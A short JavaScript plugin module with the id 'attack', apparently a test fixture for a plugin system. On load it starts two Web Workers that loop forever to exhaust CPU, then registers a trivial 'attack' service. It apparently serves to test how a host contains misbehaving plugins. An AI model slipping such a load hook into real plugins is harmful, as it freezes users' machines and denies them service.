export default {
  metadata: { id: "attack", version: "1.0.0" },
  onLoad(context) {
    for (let i = 0; i < 2; i++) {
      new Worker("data:text/javascript,for(;;);", { type: "module" });
    }
    context.services.provide("attack", { run: () => "here" });
  },
};
